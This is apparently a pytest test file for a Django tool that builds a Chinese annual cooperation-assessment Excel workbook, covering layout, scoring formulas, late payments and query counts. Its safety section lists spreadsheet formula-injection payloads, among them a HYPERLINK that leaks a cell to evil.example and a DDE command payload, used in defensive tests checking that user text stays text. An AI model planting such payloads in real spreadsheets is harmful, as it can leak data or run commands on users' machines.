"""The annual assessment workbook: its cells on the demo data, the safe writer, formulas, scores,
the print layout, a constant number of queries, and the export_assessment command."""

from __future__ import annotations

import datetime
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from assessment.models import AssessmentScheme, AssessmentSection
from assessment.scoring import ensure_default_scheme, period_outcome
from assessment.services import build
from cooperation.models import Activity, Pairing, Unit
from core.excel import MIN_SCALE, PAGE_UNITS, looks_like_formula
from tests.assessment.entered import entered_on, now

pytestmark = pytest.mark.django_db

# The assessment of 2025 as run in January 2026: everything due in 2025 is judged.
JUDGED_ON = datetime.date(2026, 1, 15)
SHEETS = [
    "考核情况表",
    "汇总",
    "评分标准",
    "任务完成情况",
    "指标完成情况",
    "资金到位情况",
    "资金使用项目",
    "园区建设情况",
    "交流活动",
    "发展指标",
    "催办督办",
]


@pytest.fixture
def export(tmp_path):
    """export(pairings, year=2025) → the re-opened workbook (formulas kept, not evaluated)."""

    def make(pairings, year=2025):
        path = build(year, pairings, dest=tmp_path / "考核表.xlsx", today=JUDGED_ON, creator="尤溪县发改局")
        return load_workbook(path)

    return make


def rows(sheet, first=3):
    return [list(r) for r in sheet.iter_rows(min_row=first, values_only=True)]


def column_widths(sheet) -> list[float]:
    """Each column's width (a <col> element may cover several columns)."""
    widths = {}
    for dim in sheet.column_dimensions.values():
        for index in range(dim.min or 0, (dim.max or 0) + 1):
            widths[index] = dim.width
    return [widths.get(index, 8.43) for index in range(1, sheet.max_column + 1)]


def title_cell(sheet):
    """The title: in A1, or beside the key columns on a sheet split across pages."""
    return next(c for c in sheet[1] if c.value)


def header(sheet):
    return [c.value for c in sheet[2]]


def by_header(sheet, row):
    return dict(zip(header(sheet), row, strict=False))


def test_workbook_has_every_sheet_with_title_header_and_print_layout(demo, export):
    wb = export([demo["jy"]])
    assert wb.sheetnames == SHEETS
    assert wb.properties.title == "2025 年度山海协作考核表 · 晋江市—尤溪县山海协作"
    assert wb.properties.creator == "尤溪县发改局"
    for sheet in wb.worksheets[1:]:
        title = title_cell(sheet)
        assert title.value.startswith("2025 年度山海协作考核表 · 晋江市—尤溪县山海协作")
        assert title.font.b and sheet["A2"].font.b
        assert title.font.name == "黑体" and sheet["A2"].font.name == "宋体"
        assert sheet["A2"].font.sz >= 10 and sheet["B3"].font.sz >= 10
        assert sheet.freeze_panes == "A3"
        orientation = "portrait" if sheet.title == "评分标准" else "landscape"
        assert sheet.page_setup.orientation == orientation
        assert str(sheet.page_setup.paperSize) == "9"  # A4
        assert sheet.oddFooter.center.text == "第 &P 页 共 &N 页"
        scale = sheet.page_setup.scale
        width = sum(column_widths(sheet))
        if sheet.print_title_cols:
            # Too wide for one page at 90 %: at 100 % across pages, 序号 and 结对 on each; the header
            # repeated (the title, beside the key columns, only on the first page).
            assert (
                sheet.print_title_cols == "$A:$B"
                and (scale or 100) == 100
                and sheet.print_title_rows == "$2:$2"
            )
            assert width > PAGE_UNITS[orientation] / MIN_SCALE
        else:
            # One page wide at 90 % or more (no text below 9 pt); title and header on every page.
            assert 90 <= (scale or 100) <= 100 and width * (scale or 100) / 100 <= PAGE_UNITS[orientation]
            assert sheet.print_title_rows == "$1:$2"
        # Every row has a height written (wrapped text is not cut to one line).
        assert all(sheet.row_dimensions[r].height for r in range(1, sheet.max_row + 1))


def test_the_2025_commitment_paid_20_days_late_shows_as_late_with_yuan_formats(demo, export):
    sheet = export([demo["jy"]])["资金到位情况"]
    line = by_header(sheet, rows(sheet)[0])
    assert line["承诺金额（元）"] == 12000000
    assert line["已拨付（元）"] == 12000000
    assert line["到位时限"].date() == datetime.date(2025, 4, 30)
    assert line["足额拨付日期"].date() == datetime.date(2025, 5, 20)
    assert line["是否按时"] == "足额拨付，逾期 20 天"
    assert line["逾期天数"] == 20
    assert (
        "2025-04-28 拨付 ¥5,000,000" in line["拨付明细"] and "2025-05-20 拨付 ¥7,000,000" in line["拨付明细"]
    )
    # Each arrival confirmation with its date; which side each part counts for.
    assert line["到账确认"] == "2025-05-26 ¥12,000,000"
    assert line["计入方"] == "拨付：支援方；清单：受援方" and line["是否计分"] == "是"
    assert line["序号"] == 1
    assert sheet["F3"].number_format == "#,##0"
    # The totals row: Excel formulas over the money columns, written by our code.
    assert sheet["A4"].value == "合计"
    assert sheet["F4"].data_type == "f" and sheet["F4"].value == "=SUM(F3:F3)"
    assert sheet["I4"].value == "=SUM(I3:I3)" and sheet["L4"].value == "=SUM(L3:L3)"


def test_totals_carry_their_values_for_viewers_that_do_not_recalculate(demo, export, tmp_path):
    """A phone preview or a viewer that shows cached values must show the totals, not 0."""
    export([demo["jy"], demo["wz"]])
    cached = load_workbook(tmp_path / "考核表.xlsx", data_only=True)
    funds = cached["资金到位情况"]
    data = rows(funds)
    total = data[-1]
    assert total[0] == "合计"
    # Each pairing's 小计 (SUBTOTAL), and the grand total leaving the 小计 rows out.
    items = [r for r in data[:-1] if isinstance(r[0], int)]
    subtotals = [r for r in data[:-1] if not isinstance(r[0], int)]
    assert subtotals and all("小计" in r[1] for r in subtotals)
    assert [r[0] for r in items] == list(range(1, len(items) + 1))  # a running 序号
    assert total[5] == sum(r[5] for r in items) == sum(r[5] for r in subtotals)
    # Each pairing's rows together, closed by one 小计, on every detail sheet.
    for sheet in cached.worksheets[4:]:
        labels = [r[1] for r in rows(sheet) if r[0] is None and r[1]]
        assert len(labels) == len(set(labels)), sheet.title
    assert funds.cell(row=len(data) + 2, column=6).value is not None
    summary = cached["汇总"]
    weights = [Decimal(h.split("（")[-1].rstrip("分）")) for h in header(summary)[3:-4]]
    totals = [line[-2] for line in rows(summary)]
    assert any(isinstance(t, (int, float)) for t in totals)
    for line in rows(summary):
        scored = [(v, w) for v, w in zip(line[3:-4], weights, strict=True) if isinstance(v, (int, float))]
        if not scored:
            assert line[-2] == "不适用"
            continue
        # The total is scored over the applicable sections' weights only, brought to 100: the
        # numerator (得分合计) and the denominator (适用分值) are on the row.
        applicable = sum(w for _v, w in scored)
        assert line[-4] == pytest.approx(float(sum(Decimal(str(v)) for v, _w in scored)), abs=0.01)
        assert line[-3] == applicable
        assert line[-2] == pytest.approx(
            float(sum(Decimal(str(v)) for v, _w in scored) / applicable * 100), abs=0.01
        )


def test_tasks_sheet_lists_the_periods_due_in_2025(demo, export):
    sheet = export([demo["jy"]])["任务完成情况"]
    lines = [by_header(sheet, r) for r in rows(sheet)]
    titles = {line["任务"] for line in lines}
    assert titles == {
        "尤溪县制定协作资金使用项目清单（以造血式产业类项目为主）",
        "落实帮扶资金：晋江市安排山海协作专项资金1200万元",
        "推进文旅康养产业合作",
        "推动教育医疗合作",
        "加强组织领导",
    }
    assert all(line["截止日期"].year == 2025 for line in lines)
    education = next(line for line in lines if line["任务"] == "推动教育医疗合作")
    assert education["条目号"] == "二、（四）2."
    assert [line["序号"] for line in lines] == [1, 2, 3, 4, 5]
    assert education["计入方"] == "双方" and education["是否计分"] == "否：按交流活动计分"
    assert education["牵头单位"] == "尤溪县教育局、晋江市教育局"
    assert education["配合单位"] == "晋江市卫生健康局、尤溪县卫生健康局"
    assert education["时限原文"] == "每年分别开展不少于一次"
    # A finished year is judged as it ended: work due on 31 December and not done is 1 day late.
    assert (education["按时 / 逾期"], education["逾期天数"], education["状态"]) == ("已逾期 1 天", 1, "逾期")
    # The money is proved by the funds ledger: paid in full on 20 May, 20 days late (as the funds sheet says).
    money = next(line for line in lines if line["任务"].startswith("落实帮扶资金"))
    assert money["截止日期"].date() == datetime.date(2025, 4, 30)
    assert (money["按时 / 逾期"], money["逾期天数"], money["状态"]) == ("逾期 20 天完成", 20, "已完成")
    assert money["完成日期"].date() == datetime.date(2025, 5, 20)


def test_indicators_sheet_shows_jinjiangs_2025_targets(demo, export):
    sheet = export([demo["jy"]])["发展指标"]
    lines = [by_header(sheet, r) for r in rows(sheet)]
    gdp = next(line for line in lines if line["指标"] == "地区生产总值增速")
    assert (gdp["地区"], gdp["方"], gdp["目标口径"], gdp["预期目标"]) == (
        "晋江市",
        "支援方",
        "≈",
        6,
    )
    assert "地区生产总值增长 6%左右" in gdp["原文"]
    assert {line["指标"] for line in lines} >= {
        "一般公共预算总收入增速",
        "规上工业增加值增速",
        "全社会固定资产投资增速",
    }
    # “=” is a comparator written by the indicators module, kept as text, never a formula.
    assert all(c.data_type != "f" for row in sheet.iter_rows(min_row=3) for c in row)


def test_indicators_list_both_sides_and_each_region_once(demo, export):
    """Jinjiang in two pairings: its figures once, naming both; a side without figures says so."""
    changting = Pairing.objects.get(name__startswith="晋江市—长汀县")
    sheet = export([demo["jy"], changting])["发展指标"]
    lines = [by_header(sheet, r) for r in rows(sheet) if isinstance(r[0], int)]
    regions = [line["地区"] for line in lines]
    assert {"晋江市", "尤溪县", "长汀县"} <= set(regions)
    jinjiang = [line for line in lines if line["地区"] == "晋江市"]
    names = [line["指标"] for line in jinjiang]
    assert len(names) == len(set(names)) and "地区生产总值增速" in names  # not repeated per pairing
    assert all(line["所涉结对"] == f"晋江市—尤溪县山海协作、{changting.name}" for line in jinjiang)
    for region in ("尤溪县", "长汀县"):
        side = [line for line in lines if line["地区"] == region]
        assert side and all(line["方"] == "受援方" for line in side)
        assert side[0]["指标"] == "本年度无记录" or len(side) >= 1


def test_activities_against_the_yearly_minimums(demo, export):
    sheet = export([demo["jy"]])["交流活动"]
    lines = {r[2]: by_header(sheet, r) for r in rows(sheet)}
    event = lines["每年共同举办一次文体旅活动"]
    assert (event["计入方"], event["是否计分"]) == ("双方", "是")
    assert (event["最低次数"], event["实际次数"], event["是否达标"]) == (1, 1, "是")
    assert "晋江尤溪朱子文化旅游节" in event["计入的活动"]
    leaders = lines["两地党政主要领导每年至少 1 次共同研究部署山海协作工作"]
    assert leaders["是否达标"] == "是" and "2025年晋江—尤溪山海协作联席会议" in leaders["计入的活动"]
    # No education exchange was recorded in 2025 (the demo's is of 2024). The row reads the
    # document's own sentence since the demo imports seed 000 through the parser (issue 20): one
    # minimum per field of "教育、医疗领域每年分别开展不少于一次…".
    assert lines["教育：教育、医疗领域每年分别开展不少于一次的专技人员交流活动"]["是否达标"] == "否"


def test_summary_scores_each_side_with_a_total_formula(demo, export):
    sheet = export([demo["jy"]])["汇总"]
    head = header(sheet)
    assert head[:3] == ["结对", "方", "地区"] and "总分" in head
    coastal, mountain = (by_header(sheet, r) for r in rows(sheet))
    assert (coastal["方"], coastal["地区"]) == ("支援方", "晋江市")
    assert (mountain["方"], mountain["地区"]) == ("受援方", "尤溪县")
    # Jinjiang paid the 2025 money late: no points for funds; 2 of the 4 activity minimums met.
    assert coastal["帮扶资金按时到位（20分）"] == 0
    assert coastal["交流活动达到最低次数（10分）"] == 5
    assert coastal["催办督办（10分）"] == 10
    # Every task due in 2025 is kept by a ledger (funds, activities): scored there, not here.
    assert coastal["重点任务按时完成（40分）"] == "不适用" and coastal["量化指标完成（20分）"] == "不适用"
    total = sheet.cell(row=3, column=head.index("总分") + 1)
    assert total.data_type == "f" and total.value == "=ROUND(SUM(D3:H3)/40*100,2)"
    assert "按时 0/1" in coastal["计分依据"] and "得分 ÷ 40 × 100" in coastal["计分依据"]


def test_the_scheme_in_the_database_drives_the_scores(demo, export):
    scheme = ensure_default_scheme()
    funds = scheme.sections.get(rule=AssessmentSection.Rule.FUNDS_ON_TIME)
    funds.name, funds.weight = "资金到位", Decimal("30")
    funds.save()
    scheme.sections.filter(rule=AssessmentSection.Rule.URGING).delete()
    head = header(export([demo["jy"]])["汇总"])
    assert "资金到位（30分）" in head and not any(h.startswith("催办督办") for h in head)


def test_a_scheme_for_the_year_wins_over_the_default(demo, export):
    ensure_default_scheme()
    special = AssessmentScheme.objects.create(name="2025年专项方案", year_from=2025, year_to=2025)
    AssessmentSection.objects.create(
        scheme=special, name="活动", rule=AssessmentSection.Rule.ACTIVITIES_MINIMUMS, weight=Decimal("100")
    )
    sheet = export([demo["jy"]])["汇总"]
    assert header(sheet)[3:5] == ["活动（100分）", "得分合计"]
    assert by_header(sheet, rows(sheet)[0])["活动（100分）"] == 50


def test_default_scheme_is_created_once(db):
    first = ensure_default_scheme()
    assert ensure_default_scheme() == first
    assert sum(s.weight for s in first.sections.all()) == 100
    assert AssessmentScheme.objects.filter(is_default=True).count() == 1


def test_period_outcomes():
    day = datetime.date
    assert period_outcome(day(2025, 4, 30), "done", day(2025, 4, 29), day(2025, 12, 31)).label == "按时完成"
    late = period_outcome(day(2025, 4, 30), "done", day(2025, 5, 20), day(2025, 12, 31))
    assert (late.label, late.days_late, late.counted, late.on_time) == ("逾期 20 天完成", 20, True, False)
    assert period_outcome(day(2025, 4, 30), "in_progress", None, day(2025, 5, 2)).label == "已逾期 2 天"
    assert not period_outcome(day(2025, 12, 31), "in_progress", None, day(2025, 5, 2)).counted
    assert not period_outcome(day(2025, 4, 30), "paused", None, day(2025, 12, 31)).counted


# --------------------------------------------------------------------------------------------
# Safety: user text never becomes a formula
# --------------------------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "  =1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "＝1+1",
    "＠SUM(1)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_triggers_are_recognised(text):
    assert looks_like_formula(text)


def test_hostile_user_text_comes_out_as_text(demo, export):
    from funds.models import FundCommitment
    from tasks.models import Task, TaskPeriod, TaskUnit

    jy = demo["jy"]
    since = now()
    unit = Unit.objects.get(name="尤溪县教育局")
    for i, title in enumerate(HOSTILE):
        task = Task.objects.create(pairing=jy, title=title, start_year=2025, number=f"=A{i}")
        TaskUnit.objects.create(task=task, unit=unit)
        TaskPeriod.objects.create(task=task, year=2025, due_date=datetime.date(2025, 6, 30), note=title)
    Activity.objects.create(
        pairing=jy, kind="event", title="=2+5 文体旅\x07活动", date=datetime.date(2025, 7, 1)
    )
    FundCommitment.objects.filter(pairing=jy, year=2025).update(purpose="@SUM(1,2)")
    for commitment in FundCommitment.objects.filter(pairing=jy, year=2025):
        commitment.save()  # its history holds the purpose the assessment reads
    entered_on(datetime.date(2025, 7, 2), since)

    wb = export([jy])
    tasks = wb["任务完成情况"]
    cells = {c.value: c for row in tasks.iter_rows(min_row=3) for c in row if isinstance(c.value, str)}
    hyperlink = cells[HOSTILE[0]]
    assert hyperlink.data_type == "s" and hyperlink.quotePrefix
    for text in HOSTILE:
        assert cells[text].data_type == "s"
    assert wb["资金到位情况"]["C3"].value == "@SUM(1,2)" and wb["资金到位情况"]["C3"].data_type == "s"
    activities = [c for row in wb["交流活动"].iter_rows(min_row=3) for c in row if isinstance(c.value, str)]
    assert any("=2+5 文体旅活动" in c.value for c in activities)  # the bell character removed

    # The only formulas in the whole workbook are ours: the summary totals and the SUM rows.
    formulas = {
        (s.title, c.coordinate)
        for s in wb.worksheets[1:]
        for row in s.iter_rows()
        for c in row
        if c.data_type == "f"
    }
    assert formulas == {
        ("汇总", "I3"),
        ("汇总", "I4"),
        ("汇总", "K3"),
        ("汇总", "K4"),
        ("资金到位情况", "F4"),
        ("资金到位情况", "I4"),
        ("资金到位情况", "K4"),
        ("资金到位情况", "L4"),
    }
    # The official table's: 分值 and 自评分 on its 合计 rows.
    official = wb["考核情况表"]
    for row in official.iter_rows():
        for c in row:
            if c.data_type == "f":
                assert c.column_letter in "DF" and official.cell(row=c.row, column=2).value == "合计"


# --------------------------------------------------------------------------------------------
# Queries: constant whatever the data size
# --------------------------------------------------------------------------------------------


def _grow(jy, start: int, n: int) -> None:
    """Add n of everything the sheets read: tasks with units, periods, targets, actuals, approved
    reports, commitments with payments, activities, urging notices and park plans."""
    from funds.models import Disbursement, FundCommitment
    from parks.models import Park, ParkInvestmentPlan
    from reminders.models import UrgingNotice
    from tasks.models import ProgressReport, Target, TargetActual, Task, TaskPeriod, TaskUnit

    units = list(Unit.objects.filter(name__in=["尤溪县教育局", "晋江市教育局"]))
    since = now()
    for i in range(start, start + n):
        task = Task.objects.create(pairing=jy, title=f"测试任务{i}", start_year=2025, number=f"{i}.")
        for unit in units:
            TaskUnit.objects.create(task=task, unit=unit)
        period = TaskPeriod.objects.create(
            task=task,
            year=2025,
            due_date=datetime.date(2025, 6, 30),
            status="done",
            completed_on=datetime.date(2025, 7, 2),
        )
        target = Target.objects.create(task=task, name=f"培训{i}", value=Decimal("2"), unit="次")
        report = ProgressReport.objects.create(
            period=period, unit=units[0], text=f"报告{i}", status="approved"
        )
        TargetActual.objects.create(period=period, target=target, value=Decimal("3"), report=report)
        commitment = FundCommitment.objects.create(
            pairing=jy,
            year=2025,
            purpose=f"专项{i}",
            payer_region=jy.coastal_region,
            receiver_region=jy.mountain_region,
            amount=Decimal("1000"),
            due=datetime.date(2025, 5, 31),
        )
        Disbursement.objects.create(
            commitment=commitment, date=datetime.date(2025, 5, 1), amount=Decimal("500")
        )
        Activity.objects.create(
            pairing=jy, kind="training", title=f"培训班{i}", date=datetime.date(2025, 8, 1)
        )
        UrgingNotice.objects.create(
            item_key=f"test:{i}",
            due=datetime.date(2025, 6, 30),
            unit=units[i % 2],
            pairing=jy,
            summary=f"事项{i}",
            url="/",
            issued_on=datetime.date(2025, 7, 3),
            sign_by=datetime.date(2025, 7, 5),
            reply_by=datetime.date(2025, 7, 8),
            escalated_on=datetime.date(2025, 7, 10) if i % 3 == 0 else None,
        )
        park = Park.objects.create(name=f"尤溪测试园区{i}", pairing=jy, region=jy.mountain_region)
        ParkInvestmentPlan.objects.create(
            park=park,
            year=2025,
            kind="government",
            project_count=3,
            planned_total=Decimal("100"),
            planned_completion=Decimal("50"),
            actual_completion=Decimal("40"),
        )
    entered_on(datetime.date(2025, 8, 2), since)


def test_queries_do_not_grow_with_the_data(demo, tmp_path):
    ensure_default_scheme()
    jy = demo["jy"]
    pairings = [jy, demo["wz"]]

    def count() -> int:
        with CaptureQueriesContext(connection) as ctx:
            build(2025, pairings, dest=tmp_path / "q.xlsx", today=JUDGED_ON)
        return len(ctx.captured_queries)

    _grow(jy, 0, 2)
    small = count()
    _grow(jy, 2, 30)
    assert count() == small
    sheet = load_workbook(tmp_path / "q.xlsx")["任务完成情况"]
    assert sum(1 for r in rows(sheet) if str(r[3]).startswith("测试任务")) == 32
    # … and the pairing's 小计 and the 合计 rows.
    assert len(rows(load_workbook(tmp_path / "q.xlsx")["园区建设情况"])) == 32 + 2


# --------------------------------------------------------------------------------------------
# The command
# --------------------------------------------------------------------------------------------


def test_command_writes_the_all_pairings_workbook(demo, tmp_path, capsys):
    out = tmp_path / "全部.xlsx"
    call_command("export_assessment", "--year", "2025", "-o", str(out))
    assert "18 个结对" in capsys.readouterr().out or out.exists()
    summary = load_workbook(out)["汇总"]
    assert len(rows(summary)) == 2 * Pairing.objects.count()
    assert not list(tmp_path.glob("*.part"))  # the temporary file was renamed, not left behind


def test_command_exports_chosen_pairings_and_refuses_unknown_ones(demo, tmp_path):
    out = tmp_path / "jy.xlsx"
    call_command("export_assessment", "--year", "2025", "--pairing", str(demo["jy"].pk), "-o", str(out))
    assert {r[0] for r in rows(load_workbook(out)["汇总"])} == {"晋江市—尤溪县山海协作"}
    with pytest.raises(CommandError, match="结对不存在：999999"):
        call_command(
            "export_assessment", "--year", "2025", "--pairing", "999999", "-o", str(tmp_path / "x.xlsx")
        )
    assert not (tmp_path / "x.xlsx").exists()
